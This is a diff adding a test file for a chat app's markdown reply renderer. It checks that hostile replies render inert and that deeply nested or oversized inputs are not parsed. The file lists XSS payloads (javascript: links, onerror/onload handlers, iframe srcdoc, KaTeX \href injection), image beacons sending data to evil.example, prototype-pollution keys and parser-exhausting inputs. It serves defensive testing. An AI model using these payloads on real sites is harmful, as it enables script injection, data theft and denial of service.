@@ -1,0 +1,174 @@
+import { beforeAll, describe, expect, it } from "@jest/globals";
+import { render } from "@testing-library/react";
+import { LINK_PROTOCOLS } from "@atrium/shared-contracts/spec";
+import { Around, createFixture } from "../testing/render-chat.tsx";
+import { cutBlocks } from "./cut-blocks.ts";
+import { exactBlocks } from "./exact-blocks.ts";
+import { isBeyondLimits } from "./beyond-limits.ts";
+import { blockCutting, highlighting, markdownRendering, mathDrawing, richParts } from "./lazy-parts.ts";
+import { namedCharacters } from "./named-characters.ts";
+import { ReplyText } from "./reply-text.tsx";
+import { growing } from "./testing/documents.ts";
+
+const fixture = createFixture();
+const view = (text: string, streaming = false) => (
+  <Around fixture={fixture}>
+    <ReplyText text={text} streaming={streaming} />
+  </Around>
+);
+
+beforeAll(async () => {
+  const code = [markdownRendering, richParts, blockCutting, highlighting, mathDrawing, namedCharacters];
+  await Promise.all(code.map((part) => part.load()));
+});
+
+const HOSTILE = [
+  "[x](javascript:alert(1)) [x](JaVa\tScript:alert(1)) [x](java&#10;script:alert(1)) [x](&#106;avascript:alert(1))",
+  "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example) [x](\\\\evil.example)",
+  "<javascript:alert(1)> [x][r]\n\n[r]: javascript:alert(1) 'title'",
+  "[x](blob:https://evil.example/1) [x](https&colon;//evil.example) [x](/\\evil.example)",
+  "![x](https://evil.example/?d=secret) ![x][i] ![](https://evil.example/p.png 'a\" onload=\"alert(1)')\n\n[i]: https://evil.example/i.png",
+  "[![x](https://evil.example/a.png)](https://evil.example) | a |\n|---|\n| ![x](https://evil.example/t.png) |",
+  "<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe srcdoc='<script>alert(1)</script>'></iframe>",
+  "<style>*{background:url(https://evil.example/s.png)}</style>\n\n<base href='//evil.example'><link rel=stylesheet href=//evil.example>",
+  "<form action=https://evil.example><input autofocus onfocus=alert(1)></form> <math href=javascript:alert(1)>x</math>",
+  '```"><img src=x onerror=alert(1)>\ncode\n```\n\n```js onload=alert(1) {"a": "</code><script>alert(1)</script>"}\n</pre><script>alert(1)</script>\n```',
+  "```__proto__\n{}\n```\n\n```constructor\n{}\n```\n\n```toString\n{}\n```",
+  "\\(\\href{javascript:alert(1)}{x}\\) $$\\includegraphics{https://evil.example/f.png}$$ \\(\\url{https://evil.example}\\) \\(\\htmlData{x=1}{y}\\)",
+  "\\(\\def\\a{\\a\\a}\\a\\) \\(\\htmlClass{evil}{x}\\) \\(\\htmlId{evil}{x}\\) \\(\\htmlStyle{position:fixed}{x}\\)",
+  "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1)) ![x](https://evil.example/n.png)",
+  "[^__proto__] [^constructor]\n\n[^__proto__]: note\n[^constructor]: note",
+  "- [x] <b onclick=alert(1)>b</b>\n- ~~<i>~~ **<u>** &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
+];
+
+/** Everything that a browser would run, fetch or apply. */
+function dangersIn(container: HTMLElement): string[] {
+  const elements = [...container.querySelectorAll("*")];
+  return [
+    ...elements
+      .filter((element) =>
+        element.matches("script, img, iframe, object, embed, style, link, base, form, video, audio, source, meta"),
+      )
+      .map(({ outerHTML }) => outerHTML),
+    ...elements.flatMap((element) =>
+      [...element.attributes]
+        .filter(({ name, value }) => {
+          if (name.startsWith("on") || name === "srcdoc" || name === "src" || name === "srcset") return true;
+          if (name === "id" || name === "class") return value.includes("evil");
+          if (name !== "href" && name !== "xlink:href" && name !== "action") return /url\s*\(/i.test(value);
+          return !isAllowed(value);
+        })
+        .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
+    ),
+  ];
+}
+
+const isAllowed = (href: string) =>
+  href.startsWith("#") || /^\/(?![/\\])/.test(href) || LINK_PROTOCOLS.some((name) => href.startsWith(`${name}:`));
+
+describe("hostile replies stay inert", () => {
+  it.each(HOSTILE)("%j", (text) => {
+    const { container, unmount } = render(view(text));
+    expect(dangersIn(container)).toEqual([]);
+    unmount();
+  });
+
+  it.each(HOSTILE)("as they grow: %j", (text) => {
+    const { container, rerender, unmount } = render(view("", true));
+    for (const part of growing(text, [3, 1, 7])) {
+      rerender(view(part, true));
+      expect(dangersIn(container)).toEqual([]);
+    }
+    unmount();
+  });
+});
+
+const lines = (count: number, line: string) => `${line}\n`.repeat(count);
+
+/** What would keep the parser busy for seconds: by depth, number of marks or size. */
+const ENDLESS: [name: string, text: string][] = [
+  ["3,000 nested quotes", `${"> ".repeat(3_000)}x`],
+  ["3,000 nested quotes without spaces", `${">".repeat(3_000)}x`],
+  ["3,000 nested lists", `${"- ".repeat(3_000)}x`],
+  ["3,000 nested numbered lists", `${"1. ".repeat(3_000)}x`],
+  ["quotes and lists in each other", `${"> - 1) ".repeat(1_000)}x`],
+  ["lists nested by indentation", Array.from({ length: 300 }, (_, depth) => `${" ".repeat(2 * depth)}- a`).join("\n")],
+  ["3,000 open brackets", "[".repeat(3_000)],
+  ["3,000 nested brackets", `${"[".repeat(3_000)}x${"]".repeat(3_000)}`],
+  ["3,000 nested links", `${"[".repeat(3_000)}x${"](y)".repeat(3_000)}`],
+  ["3,000 nested images", `${"![".repeat(3_000)}x${"](y)".repeat(3_000)}`],
+  ["emphasis that crosses", "*a_ ".repeat(3_000)],
+  ["emphasis in many lines", lines(3_000, "*a __b")],
+  ["underlined headings", lines(3_000, "a\n=")],
+  ["a megabyte of code", `\`\`\`\n${lines(150_000, "x = 1;")}\`\`\``],
+];
+
+/** What may be slow to read, just within the limits. */
+const BUSY: [name: string, text: string][] = [
+  ["quotes", lines(20, `${"> ".repeat(90)}x`)],
+  ["lists", `${"- ".repeat(90)}x`],
+  ["links", `${"[".repeat(290)}x${"](y)".repeat(290)}`],
+  ["emphasis", "*a_ ".repeat(490)],
+  ["code marks", "`a``b ".repeat(1_000)],
+  ["tags", "<a ".repeat(3_000)],
+  ["entities", "&amp;".repeat(3_000)],
+  ["links by themselves", "http://a.b@c.".repeat(1_000)],
+  ["beginnings of formulas", "\\(".repeat(3_000)],
+  ["beginnings of formulas in lines", lines(290, "\\[")],
+  ["dollar signs", "$a ".repeat(3_000)],
+  ["footnotes", "[^a]".repeat(1_000) + "\n\n[^a]: x"],
+  ["definitions", Array.from({ length: 500 }, (_, index) => `[a${index}]: x`).join("\n")],
+];
+
+describe("hostile replies take bounded time", () => {
+  it.each(ENDLESS)("%s are shown as written, without being parsed", (_, text) => {
+    expect(isBeyondLimits(text)).toBe(true);
+    expect(cutBlocks(text)).toEqual([text]);
+    expect(exactBlocks(text)).toEqual([text]);
+    const { container, unmount } = render(view(text));
+    expect(container.textContent).toBe(text);
+    expect(container.querySelectorAll("blockquote, li, a, pre, h1")).toHaveLength(0);
+    unmount();
+  });
+
+  it("finds that out in a time that grows with the length only", () => {
+    const short = ENDLESS.map(([, text]) => text.slice(0, 3_000)).join("\n\n");
+    const time = (text: string) => {
+      const start = performance.now();
+      isBeyondLimits(text);
+      return performance.now() - start;
+    };
+    time(short);
+    const ordinary = "Some **bold** and [linked](x) text, `code`, and a list:\n\n- one\n- two\n\n";
+    const expected = time(ordinary.repeat(5_000));
+    for (const mark of ["[", "]", ">", "- ", " ", "\n", "\t", "*", "_~", "=\n", "1", "1.", "> [", "#", "|"])
+      expect(time(mark.repeat(Math.ceil(350_000 / mark.length)))).toBeLessThan(20 * expected + 100);
+  });
+
+  it.each(BUSY)("%s just within the limits cost no more than a long reply", (_, text) => {
+    expect(isBeyondLimits(text)).toBe(false);
+    const ordinary = Array.from(
+      { length: 600 },
+      (__, index) =>
+        `## Part ${index}\n\nSome **bold** and [linked](https://example.com) text with \`code\`.\n\n- one\n- two`,
+    ).join("\n\n");
+    const time = (run: () => void) => {
+      const start = performance.now();
+      run();
+      return performance.now() - start;
+    };
+    const read = (given: string) => () => void [cutBlocks(given), exactBlocks(given)];
+    read(ordinary)();
+    expect(time(read(text))).toBeLessThan(time(read(ordinary)) + 200);
+  });
+});
+
+describe("ordinary replies are within the limits", () => {
+  it.each([
+    ["a long list with bold", lines(2_000, "- **a**: *b* [c](d)")],
+    ["a large table", `| a | b |\n|---|---|\n${lines(2_000, "| **a** | [b](c) |")}`],
+    ["many headings and rules", lines(200, "# a\n\ntext\n\n---\n")],
+    ["intervals", lines(100, "[0, 1) and (0, 1]\n")],
+    ["code with indentation", `\`\`\`\n${lines(500, `${" ".repeat(150)}- x`)}\`\`\``],
+  ])("%s", (_, text) => expect(isBeyondLimits(text)).toBe(false));
+});
